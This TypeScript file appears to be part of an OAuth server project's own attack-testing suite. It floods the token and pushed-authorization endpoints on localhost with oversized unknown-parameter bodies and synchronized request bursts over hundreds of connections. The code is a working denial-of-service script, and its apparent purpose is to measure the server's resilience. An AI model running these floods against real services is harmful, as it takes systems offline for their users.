import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';
import { attack, type Attack, holdConnections } from './attack.js';
import { JSON_BODY } from './requests.js';

const REDIRECT_URI = 'https://example.com/callback';
const CODE_VERIFIER = 'v'.repeat(43);
/** Node.js parses each `+` to a string of its own. */
const UNKNOWN = '+q'.repeat(28_000);

/** A public client, as anyone can register it. */
async function registerPublic(url: string): Promise<string> {
  const response = await fetch(`${url}/v2/oauth/register`, {
    method: 'POST',
    headers: JSON_BODY,
    body: JSON.stringify({ redirect_uris: [REDIRECT_URI], token_endpoint_auth_method: 'none' }),
  });
  if (!response.ok) throw new Error(`${response.status}: ${await response.text()}`);
  return ((await response.json()) as { client_id: string }).client_id;
}

const post = (path: string, parameters: Record<string, string>, unknown: string): string => {
  const body = `${new URLSearchParams(parameters).toString()}&x=${unknown}`;
  return (
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n` +
    `Content-Length: ${body.length}\r\n\r\n${body}`
  );
};

type MakeRequest = (clientId: string) => string;

const exchangeOf =
  (unknown: string): MakeRequest =>
  (clientId) => {
    const parameters = { code: 'unknown', redirect_uri: REDIRECT_URI, code_verifier: CODE_VERIFIER };
    const client = { grant_type: 'authorization_code', client_id: clientId };
    return post('/v2/oauth/token', { ...parameters, ...client }, unknown);
  };

const pushOf =
  (unknown: string): MakeRequest =>
  (clientId) => {
    const parameters = { response_type: 'code', redirect_uri: REDIRECT_URI, client_id: clientId };
    const challenge = { code_challenge: 'x', code_challenge_method: 'plain' };
    return post('/v2/oauth/par', { ...parameters, ...challenge }, unknown);
  };

/** The first request to the engine loads its library: once, for 0.1 to 0.2 s. */
const prepareWith = (makeRequest: MakeRequest) => async (url: string) => {
  const request = makeRequest(await registerPublic(url));
  await new Promise<void>((done, fail) => {
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(request));
    socket.once('data', () => {
      socket.destroy();
      done();
    });
    socket.once('error', fail);
  });
  return request;
};

/** The next request of each connection is sent when the reply has arrived. */
const repeated = (connections: number, makeRequest: MakeRequest): Attack<string> => ({
  prepare: prepareWith(makeRequest),
  run: (target, request) => {
    holdConnections(target, connections, 1_000, (socket) => {
      socket.on('data', () => socket.write(request));
      socket.write(request);
    });
  },
});

const BURST_MS = 2_000;

/** The last bytes of the requests of all connections are sent at once. */
const completedTogether = (connections: number, makeRequest: MakeRequest): Attack<string> => ({
  prepare: prepareWith(makeRequest),
  run: (target, request) => {
    const begun = new Set<{ write: (text: string) => unknown }>();
    holdConnections(target, connections, 1_000, (socket) => {
      const begin = () => {
        socket.write(request.slice(0, -1));
        begun.add(socket);
      };
      socket.on('data', begin);
      socket.once('close', () => begun.delete(socket));
      begin();
    });
    setInterval(() => {
      for (const socket of begun) socket.write(request.slice(-1));
      begun.clear();
    }, BURST_MS);
  },
});

/** `npm run attack:token-requests`: one address with a public client, whose requests take the engine long. */
await attack<string>(fileURLToPath(import.meta.url), {
  'code exchanges with large unknown parameters, on 20 connections': repeated(20, exchangeOf(UNKNOWN)),
  'pushed requests with large unknown parameters, on 20 connections': repeated(20, pushOf(UNKNOWN)),
  'code exchanges on 240 connections': repeated(240, exchangeOf('')),
  '200 code exchanges with large unknown parameters that are complete at once': completedTogether(
    200,
    exchangeOf(UNKNOWN),
  ),
});
